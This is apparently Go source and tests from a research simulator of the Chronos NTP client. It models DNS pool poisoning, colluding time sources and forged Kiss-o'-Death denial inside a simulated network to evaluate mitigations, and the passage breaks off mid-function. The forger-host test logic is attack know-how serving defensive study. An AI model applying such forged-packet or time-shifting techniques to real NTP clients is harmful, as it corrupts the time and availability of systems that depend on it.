	Resample               // re-sample m servers and try again
	Panic                  // query the whole pool and trust the middle third
)

// String implements fmt.Stringer.
func (a Action) String() string {
	switch a {
	case Apply:
		return "apply"
	case Resample:
		return "resample"
	case Panic:
		return "panic"
	default:
		return "Action(?)"
	}
}

// Round tracks one sync round's re-sample/panic escalation. A fresh Round
// is created per round; Submit folds in each attempt's verdict. Per the
// NDSS'18 spec the client re-samples up to K (= Config.Retries) times, so
// panic mode triggers on the (K+1)-th consecutive failed attempt of a
// round.
type Round struct {
	retries  int
	failures int
}

// NewRound starts a round with the given re-sample budget K.
func NewRound(retries int) *Round { return &Round{retries: retries} }

// Submit records one attempt's verdict and returns the escalation action.
func (r *Round) Submit(v Verdict) Action {
	if v.OK {
		return Apply
	}
	r.failures++
	if r.failures <= r.retries {
		return Resample
	}
	return Panic
}

// Failures reports the consecutive failed attempts so far this round.
func (r *Round) Failures() int { return r.failures }
