package chronos

import (
	"testing"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// TestQuorumEvaluate pins the chrony-style minsources acceptance test:
// the largest cluster agreeing within 2ω wins iff it reaches MinSources,
// with no trim and no absolute error bound — including the case C1/C2
// would refuse but the quorum accepts, which is the E11 contrast.
func TestQuorumEvaluate(t *testing.T) {
	ms := time.Millisecond
	quorum := NewRule(Config{MinSources: 3, Omega: 25 * ms, ErrBound: 30 * ms})
	classic := NewRule(Config{SampleSize: 4, Trim: 0, MinReplies: 4, Omega: 25 * ms, ErrBound: 30 * ms})

	t.Run("cluster-accepted-outlier-ignored", func(t *testing.T) {
		v := quorum.Evaluate([]time.Duration{0, 1 * ms, 2 * ms, 300 * ms})
		if !v.OK || v.Reason != FailNone {
			t.Fatalf("verdict = %+v, want OK", v)
		}
		if v.Update != ms {
			t.Errorf("update = %v, want cluster mean 1ms", v.Update)
		}
	})
	t.Run("no-cluster-fails-quorum", func(t *testing.T) {
		v := quorum.Evaluate([]time.Duration{0, 100 * ms, 200 * ms})
		if v.OK || v.Reason != FailQuorum {
			t.Fatalf("verdict = %+v, want FailQuorum", v)
		}
	})
	t.Run("starved-below-minsources", func(t *testing.T) {
		v := quorum.Evaluate([]time.Duration{0, ms})
		if v.OK || v.Reason != FailInsufficient {
			t.Fatalf("verdict = %+v, want FailInsufficient", v)
		}
	})
	t.Run("agreeing-attacker-beats-quorum-but-not-errbound", func(t *testing.T) {
		// Three colluding sources at ~500ms outvote one honest sample:
		// the quorum applies the attacker's offset where C2's absolute
		// bound would have refused it. This asymmetry is what E11's
		// minsources-vs-C1C2 axis measures.
		offsets := []time.Duration{500 * ms, 501 * ms, 502 * ms, 0}
		if v := quorum.Evaluate(offsets); !v.OK || v.Update != 501*ms {
			t.Fatalf("quorum verdict = %+v, want OK at 501ms", v)
		}
		if v := classic.Evaluate(offsets); v.OK {
			t.Fatalf("classic C1/C2 accepted %+v", v)
		}
	})
	t.Run("unsorted-input", func(t *testing.T) {
		// Samples arrive in reply order; the quorum must not depend on it.
		v := quorum.Evaluate([]time.Duration{300 * ms, 2 * ms, 0, 1 * ms})
		if !v.OK || v.Update != ms {
			t.Fatalf("verdict = %+v, want OK at 1ms", v)
		}
	})
}

// authKey is the shared test credential for the MAC scenarios below.
var authKey = ntpauth.Key{ID: 5, Algo: ntpauth.AlgoSHA256, Secret: []byte("chronos-test-secret")}

func authTable(t *testing.T) *ntpauth.KeyTable {
	t.Helper()
	tbl, err := ntpauth.NewKeyTable(authKey)
	if err != nil {
		t.Fatal(err)
	}
	return tbl
}

// authedFarm builds count honest servers that verify and seal with the
// shared MAC key (but still serve unauthenticated requests).
func authedFarm(t *testing.T, n *simnet.Network, base simnet.IP, count int) []simnet.IP {
	t.Helper()
	ips := make([]simnet.IP, 0, count)
	for i := 0; i < count; i++ {
		ip := simnet.IPv4(base[0], base[1], base[2], byte(int(base[3])+i))
		host, err := n.AddHost(ip)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := ntpserver.New(host, ntpserver.Config{
			Clock: clock.New(n.Now(), time.Duration(i%5-2)*time.Millisecond, 0),
			Auth:  &ntpauth.ServerAuth{Keys: authTable(t)},
		}); err != nil {
			t.Fatal(err)
		}
		ips = append(ips, ip)
	}
	return ips
}

// forgerFarm builds count hosts that answer every datagram on port 123
// with an unauthenticated DENY kiss echoing the request's transmit
// timestamp — the attacker-forged KoD move in miniature.
func forgerFarm(t *testing.T, n *simnet.Network, base simnet.IP, count int) []simnet.IP {
	t.Helper()
	ips := make([]simnet.IP, 0, count)
	for i := 0; i < count; i++ {
		ip := simnet.IPv4(base[0], base[1], base[2], byte(int(base[3])+i))
		host, err := n.AddHost(ip)
		if err != nil {
			t.Fatal(err)
		}
		h := host
		if err := host.Listen(ntpwire.Port, func(now time.Time, meta simnet.Meta, payload []byte) {
			var req, kiss ntpwire.Packet
			if ntpwire.DecodeInto(&req, payload) != nil {
				return
			}
			ntpauth.FillKoD(&kiss, ntpauth.KissDENY, &req, now)
			_ = h.SendUDP(ntpwire.Port, meta.From, kiss.Encode())
		}); err != nil {
			t.Fatal(err)
		}
		ips = append(ips, ip)
	}
	return ips
}

// TestAuthenticatedPoolSyncs: a require-auth client against a keyed pool
// applies updates with zero auth rejects; the same client against an
// unauthenticated pool rejects every reply and never updates.
func TestAuthenticatedPoolSyncs(t *testing.T) {
	mkAuth := func() *AuthPolicy {
		ca := &ntpauth.ClientAuth{Key: authKey, Require: true}
		return &AuthPolicy{ForServer: func(simnet.IP) *ntpauth.ClientAuth { return ca }}
	}
	cfg := Config{SyncInterval: 16 * time.Second, SampleSize: 9, MinReplies: 6}

	t.Run("keyed-pool", func(t *testing.T) {
		n := simnet.New(simnet.Config{Seed: 201})
		ips := authedFarm(t, n, simnet.IPv4(203, 0, 1, 1), 30)
		ch, _ := n.AddHost(simnet.IPv4(10, 0, 0, 1))
		c := cfg
		c.Auth = mkAuth()
		cli := New(ch, clock.New(n.Now(), 15*time.Millisecond, 0), nil, c)
		if err := cli.SeedPool(ips); err != nil {
			t.Fatal(err)
		}
		n.RunFor(10 * time.Minute)
		st := cli.Stats()
		if st.Updates == 0 {
			t.Fatal("authenticated client applied no updates")
		}
		if st.AuthRejects != 0 {
			t.Fatalf("AuthRejects = %d against a fully keyed pool", st.AuthRejects)
		}
		if off := cli.Offset(); off < -10*time.Millisecond || off > 10*time.Millisecond {
			t.Errorf("offset = %v, want ~0", off)
		}
	})

	t.Run("unauthenticated-pool-rejected", func(t *testing.T) {
		n := simnet.New(simnet.Config{Seed: 202})
		_, ips, err := ntpserver.Farm(n, simnet.IPv4(203, 0, 2, 1), 30, time.Millisecond, 0)
		if err != nil {
			t.Fatal(err)
		}
		ch, _ := n.AddHost(simnet.IPv4(10, 0, 0, 1))
		c := cfg
		c.Auth = mkAuth()
		cli := New(ch, clock.New(n.Now(), 15*time.Millisecond, 0), nil, c)
		if err := cli.SeedPool(ips); err != nil {
			t.Fatal(err)
		}
		n.RunFor(5 * time.Minute)
		st := cli.Stats()
		if st.Updates != 0 {
			t.Fatalf("require-auth client applied %d updates from an unauthenticated pool", st.Updates)
		}
		if st.AuthRejects == 0 {
			t.Fatal("no replies were auth-rejected")
		}
	})
}

// TestForgedKoDDeniesOnlyUnauthenticatedClients is the KoD arms race at
// client granularity: forged DENY kisses demobilize an unauthenticated
// (but KoD-compliant) client's associations, while a require-auth client
// ignores the same kisses (RFC 8915 §5.7) and keeps syncing.
func TestForgedKoDDeniesOnlyUnauthenticatedClients(t *testing.T) {
	run := func(seed int64, auth *AuthPolicy) (Stats, int, time.Duration) {
		n := simnet.New(simnet.Config{Seed: seed})
		honest := authedFarm(t, n, simnet.IPv4(203, 0, 3, 1), 40)
		forgers := forgerFarm(t, n, simnet.IPv4(66, 0, 0, 1), 10)
		ch, _ := n.AddHost(simnet.IPv4(10, 0, 0, 1))
		cli := New(ch, clock.New(n.Now(), 15*time.Millisecond, 0), nil, Config{
			SyncInterval: 16 * time.Second, SampleSize: 9, MinReplies: 6, Auth: auth,
		})
		if err := cli.SeedPool(append(honest, forgers...)); err != nil {
			t.Fatal(err)
		}
		n.RunFor(30 * time.Minute)
		return cli.Stats(), cli.UsableServers(), cli.Offset()
	}

	// KoD-compliant but unauthenticated: every forged kiss is believed.
	st, usable, _ := run(203, &AuthPolicy{})
	if st.KoDKisses == 0 {
		t.Fatal("unauthenticated client saw no kisses")
	}
	if st.Demobilized == 0 {
		t.Fatal("forged DENY kisses demobilized nothing")
	}
	if usable >= 50 {
		t.Fatalf("usable servers = %d, want < 50 after forged DENY", usable)
	}

	// Require-auth: the same kisses are origin-valid but unauthenticated,
	// so the state machine must discard them.
	ca := &ntpauth.ClientAuth{Key: authKey, Require: true}
	st, usable, off := run(203, &AuthPolicy{ForServer: func(simnet.IP) *ntpauth.ClientAuth { return ca }})
	if st.KoDKisses == 0 {
		t.Fatal("require-auth client saw no kisses")
	}
	if st.Demobilized != 0 {
		t.Fatalf("require-auth client believed %d forged kisses", st.Demobilized)
	}
	if usable != 50 {
		t.Fatalf("usable servers = %d, want all 50", usable)
	}
	if st.Updates == 0 {
		t.Fatal("require-auth client stopped syncing under forged KoD")
	}
	if off < -10*time.Millisecond || off > 10*time.Millisecond {
		t.Errorf("offset = %v, want ~0", off)
	}
}
