// Package chronos implements the Chronos NTP client of Deutsch,
// Rothenberg-Schiff, Dolev and Schapira ("Preventing (Network) Time Travel
// with Chronos", NDSS 2018) — the provably secure client whose DNS-based
// pool generation this paper attacks.
//
// Chronos differs from a classic NTP client in two ways:
//
//  1. Pool generation: instead of resolving the pool name once and keeping
//     ≤4 servers, Chronos queries pool.ntp.org once an hour for 24 hours
//     and accumulates every returned address (~24 × 4 = 96 servers).
//  2. Clock update: each round samples m servers (default 15) uniformly at
//     random from the pool, discards the d (= m/3) lowest and d highest
//     offset samples, and accepts the survivors' average only if
//     (C1) the surviving samples lie within 2ω of each other, and
//     (C2) the average is within ErrBound of the local clock.
//     On failure it re-samples; after K consecutive failures it enters
//     *panic mode*: query every server in the pool, trim the top and
//     bottom thirds, and trust the middle third's average.
//
// The security guarantee — shifting the client by 100 ms takes a MitM
// attacker ~decades — holds only while fewer than one third of the pool is
// attacker-controlled. The pool generation mechanism is therefore the
// root of trust, and it stands on unauthenticated DNS.
package chronos

import (
	"errors"
	"fmt"
	"slices"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/dnsresolver"
	"chronosntp/internal/dnswire"
	"chronosntp/internal/ntpauth"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// Errors reported by the client.
var (
	ErrPoolEmpty     = errors.New("chronos: pool generation yielded no servers")
	ErrAlreadyBuilt  = errors.New("chronos: pool already built")
	ErrNotReady      = errors.New("chronos: pool not built")
	ErrPolicyTTL     = errors.New("chronos: response TTL exceeds policy cap")
	ErrPolicyRecords = errors.New("chronos: response record count exceeds policy cap")
)

// PoolPolicy is the §V mitigation hook applied to every DNS response
// during pool generation. The zero value is the vulnerable NDSS'18
// behaviour the paper attacks.
type PoolPolicy struct {
	// MaxAddrsPerResponse discards responses carrying more A records
	// (0 = unlimited). The paper's fix: 4.
	MaxAddrsPerResponse int
	// MaxTTL discards responses whose records carry a longer TTL
	// (0 = unlimited). The paper's fix: anything ≥ the pool-generation
	// horizon (24 h) is suspicious.
	MaxTTL time.Duration
}

// Config parameterises a Chronos client. Defaults follow the NDSS'18
// evaluation parameters.
type Config struct {
	PoolName          string        // pool domain; default "pool.ntp.org"
	PoolQueries       int           // DNS queries during pool generation; default 24
	PoolQueryInterval time.Duration // spacing of pool queries; default 1 h
	PoolTarget        int           // stop early once this many servers gathered (0 = never)

	SampleSize int           // m: servers sampled per round; default 15
	Trim       int           // d: samples discarded from each end; default m/3
	Omega      time.Duration // ω: survivor agreement bound (C1 uses 2ω); default 25 ms
	ErrBound   time.Duration // C2: |avg − local| acceptance bound; default 30 ms
	Retries    int           // K: re-sample attempts before panic; default 2
	MinReplies int           // minimum responses per round; default 2m/3

	SyncInterval time.Duration // spacing of sync rounds; default 64 s
	QueryTimeout time.Duration // per-server NTP query deadline; default 1 s

	Policy PoolPolicy // §V mitigations; zero = vulnerable

	// MinSources, when > 0, replaces the C1/C2 acceptance test with a
	// chrony-style quorum: accept the average of the largest cluster of
	// samples agreeing within 2ω iff the cluster holds at least
	// MinSources members (chrony ships minsources 1, deployments
	// hardening against falsetickers set 3). There is no trim and no
	// absolute error bound — E11 contrasts exactly this against C1/C2
	// under the same attacker.
	MinSources int

	// Auth gives the client per-server authentication requirements.
	// nil queries every server unauthenticated with requests
	// byte-identical to the pre-auth client.
	Auth *AuthPolicy
}

// AuthPolicy maps pool servers to authentication requirements. In the
// paper's threat model the pool is heterogeneous — some servers speak
// authenticated NTP, most do not — so the policy is a per-IP lookup
// rather than a single client-wide credential.
type AuthPolicy struct {
	// ForServer returns the ClientAuth for one pool server, or nil for
	// an unauthenticated association. The result is cached per IP for
	// the client's lifetime, so stateful credentials (NTS sessions) are
	// created once per server. ForServer itself may be nil: the client
	// is then unauthenticated everywhere but still KoD-aware, believing
	// any origin-valid kiss — the vulnerable baseline the forged-KoD
	// denial move exploits.
	ForServer func(ip simnet.IP) *ntpauth.ClientAuth
}

func (c Config) withDefaults() Config {
	if c.PoolName == "" {
		c.PoolName = "pool.ntp.org"
	}
	if c.PoolQueries == 0 {
		c.PoolQueries = 24
	}
	if c.PoolQueryInterval == 0 {
		c.PoolQueryInterval = time.Hour
	}
	if c.SampleSize == 0 {
		c.SampleSize = 15
	}
	if c.Trim == 0 {
		c.Trim = c.SampleSize / 3
	}
	if c.Omega == 0 {
		c.Omega = 25 * time.Millisecond
	}
	if c.ErrBound == 0 {
		c.ErrBound = 30 * time.Millisecond
	}
	if c.Retries == 0 {
		c.Retries = 2
	}
	if c.MinReplies == 0 {
		c.MinReplies = 2 * c.SampleSize / 3
	}
	if c.SyncInterval == 0 {
		c.SyncInterval = 64 * time.Second
	}
	if c.QueryTimeout == 0 {
		c.QueryTimeout = time.Second
	}
	return c
}

// Stats counts client activity for the experiments.
type Stats struct {
	PoolQueries     uint64 // DNS queries issued during pool generation
	PoolResponses   uint64 // DNS responses accepted
	PolicyDiscards  uint64 // responses discarded by the §V policy
	Rounds          uint64 // sync rounds started
	Updates         uint64 // clock updates from the normal path
	Resamples       uint64 // failed attempts that triggered a re-sample
	Panics          uint64 // panic-mode activations
	PanicUpdates    uint64 // clock updates applied by panic mode
	IncompleteRound uint64 // rounds aborted for lack of replies
	KoDKisses       uint64 // Kiss-o'-Death replies received (believed or not)
	AuthRejects     uint64 // replies dropped by the authentication policy
	Demobilized     uint64 // servers demobilized by believed DENY/RSTR kisses
}

// PoolEntry records one pool member and how it got there. AddedAt is
// virtual time as Unix nanoseconds rather than a time.Time: a time.Time
// drags a *Location pointer into every entry, and at fleet scale the
// pool slices of ~100k live clients are exactly what the GC would then
// have to scan. A pointer-free PoolEntry keeps them in noscan spans.
type PoolEntry struct {
	IP       simnet.IP
	AddedAt  int64 // virtual time the entry joined, Unix ns
	QueryIdx int   // which pool-generation query produced it (1-based)
}

// AddedTime returns the entry's join time as a time.Time.
func (e PoolEntry) AddedTime() time.Time { return time.Unix(0, e.AddedAt) }

// Lookuper is the client's DNS dependency (an alias of the shared
// dnsresolver.Lookuper): *dnsresolver.Stub satisfies it over the wire, a
// *dnsresolver.Resolver serves as the fleet's direct shared handle, and
// the mitigation package substitutes a multi-resolver consensus
// implementation (the paper's recommended direction, [12]).
type Lookuper = dnsresolver.Lookuper

// Client is a Chronos NTP client on a simulated host.
type Client struct {
	host *simnet.Host
	clk  *clock.Clock
	stub Lookuper
	cfg  Config
	rule Rule

	pool      []PoolEntry
	poolIPs   []uint32 // sorted membership index over pool (see poolAdd)
	poolBuilt bool
	building  bool
	queryIdx  int
	buildDone func(error)

	stopped bool
	timer   simnet.Timer
	round   *Round
	stats   Stats
	wireBuf []byte // NTP request encode scratch, reused across samples

	// Method values handed to the event queue, bound once at construction
	// so the per-client scheduling steady state allocates no closures.
	poolQueryFn   func()
	finishBuildFn func()
	startRoundFn  func()

	// absorbFn is the pool-query response callback, bound once; the query
	// index it applies rides in pendingIdx (see poolQuery).
	absorbFn   func(dnsresolver.Result)
	pendingIdx int

	// Per-server auth state, allocated only when cfg.Auth is set so the
	// unauthenticated client carries no extra footprint at fleet scale.
	authCache map[uint32]*ntpauth.ClientAuth
	kodState  map[uint32]*ntpauth.AssocState
}

// authFor returns (caching) the ClientAuth for a pool server.
func (c *Client) authFor(ip simnet.IP) *ntpauth.ClientAuth {
	k := ipKey(ip)
	if a, ok := c.authCache[k]; ok {
		return a
	}
	var a *ntpauth.ClientAuth
	if c.cfg.Auth.ForServer != nil {
		a = c.cfg.Auth.ForServer(ip)
	}
	if c.authCache == nil {
		c.authCache = make(map[uint32]*ntpauth.ClientAuth)
	}
	c.authCache[k] = a
	return a
}

// kodFor returns (caching) the KoD state machine for a pool server.
func (c *Client) kodFor(ip simnet.IP) *ntpauth.AssocState {
	k := ipKey(ip)
	if st, ok := c.kodState[k]; ok {
		return st
	}
	if c.kodState == nil {
		c.kodState = make(map[uint32]*ntpauth.AssocState)
	}
	st := new(ntpauth.AssocState)
	c.kodState[k] = st
	return st
}

// UsableServers reports how many pool servers are not demobilized by
// KoD (experiment instrumentation).
func (c *Client) UsableServers() int {
	n := len(c.pool)
	for _, st := range c.kodState {
		if !st.Usable() {
			n--
		}
	}
	return n
}

// New builds a Chronos client. stub may be nil when the pool is seeded
// directly via SeedPool.
func New(host *simnet.Host, clk *clock.Clock, stub Lookuper, cfg Config) *Client {
	rule := NewRule(cfg)
	c := &Client{
		host: host,
		clk:  clk,
		stub: stub,
		cfg:  rule.Config(),
		rule: rule,
	}
	c.poolQueryFn = c.poolQuery
	c.finishBuildFn = c.finishBuild
	c.startRoundFn = c.startRound
	c.absorbFn = func(res dnsresolver.Result) { c.absorbPoolResponse(c.pendingIdx, res) }
	return c
}

// Clock returns the disciplined clock.
func (c *Client) Clock() *clock.Clock { return c.clk }

// Stats returns an activity snapshot.
func (c *Client) Stats() Stats { return c.stats }

// Config returns the effective configuration (defaults applied).
func (c *Client) Config() Config { return c.cfg }

// Pool returns a copy of the current pool.
func (c *Client) Pool() []PoolEntry {
	out := make([]PoolEntry, len(c.pool))
	copy(out, c.pool)
	return out
}

// PoolView returns the live pool slice without copying. Callers must not
// mutate it or hold it across further client activity; fleet measurement
// loops read it in place to avoid one copy per client.
func (c *Client) PoolView() []PoolEntry { return c.pool }

// ipKey packs an IP into a comparable integer for the membership index.
func ipKey(ip simnet.IP) uint32 {
	return uint32(ip[0])<<24 | uint32(ip[1])<<16 | uint32(ip[2])<<8 | uint32(ip[3])
}

// poolHas reports whether ip is already in the pool, via binary search
// over the sorted membership index. Merging an 89-record poisoned
// response into a ~130-entry pool happens for every query of every
// client at fleet scale, so membership is O(log n) on a flat []uint32
// instead of a linear struct scan or a side map (two allocations per
// client).
func (c *Client) poolHas(ip simnet.IP) bool {
	i := searchIPs(c.poolIPs, ipKey(ip))
	return i < len(c.poolIPs) && c.poolIPs[i] == ipKey(ip)
}

// searchIPs is slices.BinarySearch specialized to the IP index: the
// generic shape-dictionary dispatch showed up at fleet scale, and a
// concrete uint32 loop compiles to branch-free probes.
func searchIPs(s []uint32, k uint32) int {
	lo, hi := 0, len(s)
	for lo < hi {
		mid := int(uint(lo+hi) >> 1)
		if s[mid] < k {
			lo = mid + 1
		} else {
			hi = mid
		}
	}
	return lo
}

// poolReserve grows the pool and its index to hold at least n entries in
// one step. Absorbing a response knows exactly how many records it may
// add, so sizing once up front avoids the doubling-growth reallocations
// that otherwise dominate fleet-scale allocation (an 89-record poisoned
// response would grow a 24-entry pool three times).
func (c *Client) poolReserve(n int) {
	if n <= cap(c.pool) {
		return
	}
	if min := c.cfg.PoolQueries * dnswire.BenignPoolResponseRecords; n < min {
		// First reservation: size for the expected benign harvest
		// (PoolQueries rotations of a standard 4-record response).
		n = min
	}
	pool := make([]PoolEntry, len(c.pool), n)
	copy(pool, c.pool)
	c.pool = pool
	ips := make([]uint32, len(c.poolIPs), n)
	copy(ips, c.poolIPs)
	c.poolIPs = ips
}

// poolAdd appends a pool entry (callers check membership first and
// reserve capacity) and keeps the sorted IP index in step.
func (c *Client) poolAdd(e PoolEntry) {
	c.pool = append(c.pool, e)
	k := ipKey(e.IP)
	i := searchIPs(c.poolIPs, k)
	c.poolIPs = append(c.poolIPs, 0)
	copy(c.poolIPs[i+1:], c.poolIPs[i:])
	c.poolIPs[i] = k
}

// PoolSize returns the number of distinct servers gathered.
func (c *Client) PoolSize() int { return len(c.pool) }

// PoolBuilt reports whether pool generation has completed.
func (c *Client) PoolBuilt() bool { return c.poolBuilt }

// Offset reports the client clock's error against true time (experiment
// instrumentation; invisible to a real client).
func (c *Client) Offset() time.Duration {
	return c.clk.Offset(c.host.Net().Now())
}

// BuildPool runs the Chronos pool-generation mechanism: cfg.PoolQueries
// DNS queries for cfg.PoolName spaced cfg.PoolQueryInterval apart, each
// contributing its A records to the pool. done fires when generation
// completes (possibly with ErrPoolEmpty).
func (c *Client) BuildPool(done func(error)) {
	if c.poolBuilt || c.building {
		if done != nil {
			done(ErrAlreadyBuilt)
		}
		return
	}
	c.building = true
	c.buildDone = done
	c.queryIdx = 0
	c.poolQuery()
}

// poolQuery issues one pool-generation DNS query and schedules the next.
func (c *Client) poolQuery() {
	if c.stopped {
		c.finishBuild()
		return
	}
	c.queryIdx++
	// Pool queries are spaced PoolQueryInterval (hours) apart while
	// responses resolve in at most seconds, so at most one is ever
	// outstanding: the pending query index can live on the client and the
	// absorb callback is the same bound value every time, instead of a
	// fresh closure per query.
	c.pendingIdx = c.queryIdx
	c.stats.PoolQueries++
	c.stub.Lookup(c.cfg.PoolName, dnswire.TypeA, c.absorbFn)
	if c.queryIdx >= c.cfg.PoolQueries {
		// Allow the last response to arrive, then finish.
		c.host.Net().After(c.cfg.QueryTimeout+5*time.Second, c.finishBuildFn)
		return
	}
	c.timer = c.host.Net().After(c.cfg.PoolQueryInterval, c.poolQueryFn)
}

// absorbPoolResponse applies the §V policy and merges a pool response.
func (c *Client) absorbPoolResponse(idx int, res dnsresolver.Result) {
	if res.Err != nil {
		return
	}
	now := c.host.Net().NowUnixNano()
	// count is how many A records the response can still contribute; when
	// no response policy is armed we skip the validation pre-pass and use
	// the (never smaller) RR total, which only loosens the reservation
	// estimate below.
	count := len(res.RRs)
	if c.cfg.Policy.MaxTTL > 0 || c.cfg.Policy.MaxAddrsPerResponse > 0 {
		count = 0
		for i := range res.RRs {
			rr := &res.RRs[i]
			if rr.Type != dnswire.TypeA {
				continue
			}
			count++
			if c.cfg.Policy.MaxTTL > 0 && time.Duration(rr.TTL)*time.Second > c.cfg.Policy.MaxTTL {
				c.stats.PolicyDiscards++
				return // discard the whole response: it is suspicious
			}
		}
		if c.cfg.Policy.MaxAddrsPerResponse > 0 && count > c.cfg.Policy.MaxAddrsPerResponse {
			c.stats.PolicyDiscards++
			return
		}
	}
	c.stats.PoolResponses++
	target := c.cfg.PoolTarget
	seen := 0
	for i := range res.RRs {
		rr := &res.RRs[i]
		if rr.Type != dnswire.TypeA {
			continue
		}
		seen++
		ip := simnet.IP(rr.A)
		if c.poolHas(ip) {
			continue
		}
		if target > 0 && len(c.pool) >= target {
			break
		}
		if len(c.pool) == cap(c.pool) {
			// Grow to an upper bound of what this response can still
			// add (the unprocessed A records), not a blind doubling. A
			// saturated pool re-absorbing an already-held record set —
			// the steady state once poisoning lands — never gets here,
			// so it costs no reservation at all.
			need := len(c.pool) + 1 + (count - seen)
			if target > 0 && need > target {
				need = target
			}
			c.poolReserve(need)
		}
		c.poolAdd(PoolEntry{IP: ip, AddedAt: now, QueryIdx: idx})
	}
}

// finishBuild completes pool generation and starts the sync loop.
func (c *Client) finishBuild() {
	if c.poolBuilt {
		return
	}
	c.building = false
	c.poolBuilt = true
	done := c.buildDone
	c.buildDone = nil
	if len(c.pool) == 0 {
		if done != nil {
			done(ErrPoolEmpty)
		}
		return
	}
	if !c.stopped {
		c.scheduleRound(c.cfg.SyncInterval)
	}
	if done != nil {
		done(nil)
	}
}

// SeedPool installs a pre-built pool directly, bypassing DNS generation,
// and starts the sync loop. Experiments that study the clock-update
// algorithm in isolation (e.g. the security-bound reproduction) use it.
func (c *Client) SeedPool(ips []simnet.IP) error {
	if c.poolBuilt || c.building {
		return ErrAlreadyBuilt
	}
	if len(ips) == 0 {
		return ErrPoolEmpty
	}
	now := c.host.Net().NowUnixNano()
	c.poolReserve(len(ips))
	for _, ip := range ips {
		if c.poolHas(ip) {
			continue
		}
		c.poolAdd(PoolEntry{IP: ip, AddedAt: now})
	}
	c.poolBuilt = true
	c.scheduleRound(c.cfg.SyncInterval)
	return nil
}

// Stop halts all activity.
func (c *Client) Stop() {
	c.stopped = true
	c.timer.Cancel()
}

func (c *Client) scheduleRound(d time.Duration) {
	if c.stopped {
		return
	}
	c.timer = c.host.Net().After(d, c.startRoundFn)
}

// startRound begins one Chronos sync round with a fresh escalation state.
func (c *Client) startRound() {
	if c.stopped || len(c.pool) == 0 {
		return
	}
	c.stats.Rounds++
	c.round = NewRound(c.cfg.Retries)
	c.sampleAttempt()
}

// sampleAttempt performs one sampling attempt of the current round. The
// indices come from Rule.SampleIndices — the same draw the real-socket
// wirenet.Syncer makes — so sampling behaviour cannot diverge between
// the simulated and wire transports.
func (c *Client) sampleAttempt() {
	idx := c.rule.SampleIndices(c.host.Net().Rand(), len(c.pool))
	sample := make([]simnet.IP, len(idx))
	for i, j := range idx {
		sample[i] = c.pool[j].IP
	}
	c.querySample(sample, c.evaluate)
}

// querySample performs one-shot NTP exchanges with every sampled server
// and delivers the collected offset samples after the query deadline.
func (c *Client) querySample(sample []simnet.IP, done func([]time.Duration)) {
	net := c.host.Net()
	offsets := make([]time.Duration, 0, len(sample))
	for _, ip := range sample {
		c.queryOne(simnet.Addr{IP: ip, Port: ntpwire.Port}, func(off time.Duration, ok bool) {
			if ok {
				offsets = append(offsets, off)
			}
		})
	}
	net.After(c.cfg.QueryTimeout, func() { done(offsets) })
}

// queryOne sends a single NTP client request with origin validation
// and, when an auth policy is configured, per-server credentials and
// Kiss-o'-Death handling.
func (c *Client) queryOne(addr simnet.Addr, cb func(time.Duration, bool)) {
	net := c.host.Net()
	var auth *ntpauth.ClientAuth
	var kst *ntpauth.AssocState
	if c.cfg.Auth != nil {
		auth = c.authFor(addr.IP)
		kst = c.kodFor(addr.IP)
		if !kst.Usable() {
			// Demobilized by DENY/RSTR: never query again. The sample
			// simply never arrives, shrinking this round's reply count —
			// which is exactly how denial pressure reaches the C1/C2 and
			// quorum rules.
			cb(0, false)
			return
		}
	}
	port := c.host.EphemeralPort()
	if port == 0 {
		cb(0, false)
		return
	}
	trueT1 := net.Now()
	t1 := c.clk.Now(trueT1)
	answered := false
	var timeout simnet.Timer
	err := c.host.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		if answered || meta.From != addr {
			return
		}
		var resp ntpwire.Packet
		if err := ntpwire.DecodeInto(&resp, payload); err != nil {
			return
		}
		if kst != nil && ntpauth.IsKoD(&resp) {
			// Believe only kisses that echo our origin, and only
			// authenticated ones on require-auth associations (RFC 8915
			// §5.7) — the property that disarms forged-KoD denial.
			if resp.OriginTime != ntpwire.TimestampFromTime(t1) {
				return
			}
			c.stats.KoDKisses++
			authed, _ := auth.VerifyResponse(payload)
			wasUsable := kst.Usable()
			kst.OnKoD(ntpauth.Code(&resp), authed, auth.RequiresAuth())
			if wasUsable && !kst.Usable() {
				c.stats.Demobilized++
			}
			answered = true
			c.host.Close(port)
			timeout.Cancel()
			cb(0, false)
			return
		}
		if !ntpwire.ValidServerResponse(&resp, ntpwire.TimestampFromTime(t1)) {
			return
		}
		if auth != nil {
			if _, acceptable := auth.VerifyResponse(payload); !acceptable {
				c.stats.AuthRejects++
				return
			}
		}
		answered = true
		c.host.Close(port)
		// Cancel the pending timeout so answered queries leave no dead
		// event behind — at long horizons these no-op wakeups dominate
		// the event queue.
		timeout.Cancel()
		t4 := c.clk.Now(now)
		off, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
		cb(off, true)
	})
	if err != nil {
		cb(0, false)
		return
	}
	var req ntpwire.Packet
	ntpwire.FillClientPacket(&req, t1)
	// SendUDP copies the payload into a pooled buffer, so one request
	// scratch per client serves every sample without allocating. The
	// auth policy appends this server's credentials (no-op when nil).
	c.wireBuf = req.AppendEncode(c.wireBuf[:0])
	if auth != nil {
		c.wireBuf = auth.SealRequest(c.wireBuf)
	}
	_ = c.host.SendUDP(port, addr, c.wireBuf)
	timeout = net.After(c.cfg.QueryTimeout, func() {
		if !answered {
			c.host.Close(port)
			cb(0, false)
		}
	})
}

// evaluate applies the Chronos update rule to one attempt's samples and
// follows the Round state machine's escalation decision.
func (c *Client) evaluate(offsets []time.Duration) {
	if c.stopped {
		return
	}
	v := c.rule.Evaluate(offsets)
	if v.Reason == FailInsufficient {
		c.stats.IncompleteRound++
	}
	switch c.round.Submit(v) {
	case Apply:
		now := c.host.Net().Now()
		c.clk.Step(now, v.Update)
		c.stats.Updates++
		c.scheduleRound(c.cfg.SyncInterval)
	case Resample:
		c.stats.Resamples++
		c.sampleAttempt()
	case Panic:
		c.panic()
	}
}

// panic queries every pool server, trims the top and bottom thirds, and
// trusts the middle third's average — the Chronos recovery mode. With an
// honest-majority pool this restores correct time; with an
// attacker-supermajority pool (the paper's end state) it hands the clock
// to the attacker with no further checks.
func (c *Client) panic() {
	c.stats.Panics++
